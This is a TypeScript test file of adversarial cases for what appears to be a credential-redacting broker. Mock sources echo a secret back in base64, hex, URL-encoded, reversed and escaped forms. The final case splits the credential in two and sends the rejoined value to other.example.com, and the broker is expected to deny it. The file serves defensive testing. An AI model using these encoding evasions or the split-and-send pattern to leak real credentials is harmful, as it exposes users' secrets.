import { answerJson, SECRET } from "./broker-world.ts";
import type { Exchange } from "./exchange.ts";

const HOME = "https://api.example.com/v1/x";

/** A source that gives the credential back in some form. `kept`, all of it unless told, may not reach the module. */
function echoes(id: string, how: string, form: string, { status = 200, kept = form } = {}): Exchange {
  return {
    id,
    attack: `a source repeats the credential ${how}`,
    ends: "ok",
    reached: 1,
    go: (world) => {
      world.answerWith((_, response) =>
        response
          .writeHead(status, { "content-type": "text/plain; charset=utf-8", etag: form, "x-ratelimit-limit": form })
          .end(`before ${form} after`),
      );
      return world.ask(HOME);
    },
    also: ({ result }) => {
      if (!result.ok || !result.body.startsWith("before ")) return "there was no answer";
      return JSON.stringify(result).includes(JSON.stringify(kept).slice(1, -1)) ? `it came out ${how}` : undefined;
    },
  };
}

const bytes = Buffer.from(SECRET);
const hex = bytes.toString("hex");

/** What comes back when a source talks too much. */
export const ECHO_EXCHANGES: readonly Exchange[] = [
  {
    id: "SEC-001",
    attack: "a source repeats every header it was sent, and the credential in base64",
    ends: "ok",
    reached: 1,
    go: (world) => {
      world.answerWith((request, response) =>
        answerJson(response, { h: request.headers, b64: Buffer.from(SECRET).toString("base64") }),
      );
      return world.ask(HOME);
    },
    also: ({ result }) => {
      const text = JSON.stringify(result);
      if (!text.includes("[redacted]")) return "nothing was taken out";
      return text.includes(bytes.toString("base64").replace(/=+$/, "")) ? "the base64 came out" : undefined;
    },
  },
  echoes("SEC-001", "as it is", SECRET),
  echoes("SEC-001", "as in an address", encodeURIComponent(SECRET)),
  echoes("SEC-001", "as in a form", new URLSearchParams({ v: SECRET }).toString().slice(2)),
  echoes("SEC-001", "with every letter escaped", hex.replaceAll(/../g, "%$&")),
  echoes("SEC-001", "as in a page", SECRET.replaceAll("&", "&amp;")),
  echoes("SEC-001", "backwards", SECRET.split("").reverse().join("")),
  echoes("SEC-001", "in hexadecimal", hex),
  echoes("SEC-001", "in capital hexadecimal", hex.toUpperCase()),
  echoes(
    "SEC-001",
    "as JavaScript would write it",
    SECRET.split("")
      .map((l) => `\\u00${l.charCodeAt(0).toString(16)}`)
      .join(""),
  ),
  ...["", "a", "ab", "user:"].map((before) => {
    const form = Buffer.from(`${before}${SECRET}`).toString("base64");
    // The first and the last characters are shared with what stands beside it.
    const kept = form.slice(Math.ceil((before.length * 8) / 6), -4);
    return echoes("SEC-001", `in base64 behind ${before.length} other bytes`, form, { kept });
  }),
  echoes("SEC-005", "on an error page", `401: Authorization: Bearer ${SECRET} is not valid`, {
    status: 401,
    kept: SECRET,
  }),
  {
    id: "SEC-006",
    attack: "a source sends the credential in two halves",
    // No filter finds that. What matters: it came from the only host that knows it anyway, and goes to no other.
    ends: "denied",
    reached: 2,
    go: async (world) => {
      const half = Math.ceil(SECRET.length / 2);
      let turn = 0;
      world.answerWith((_, response) => {
        turn += 1;
        answerJson(response, turn === 1 ? SECRET.slice(0, half) : SECRET.slice(half));
      });
      const answers = [await world.ask(HOME), await world.ask(HOME)];
      const whole = answers.map(({ result }) => (result.ok ? String(JSON.parse(result.body)) : "")).join("");
      return await world.ask(`https://other.example.com/?k=${encodeURIComponent(whole)}`);
    },
  },
];
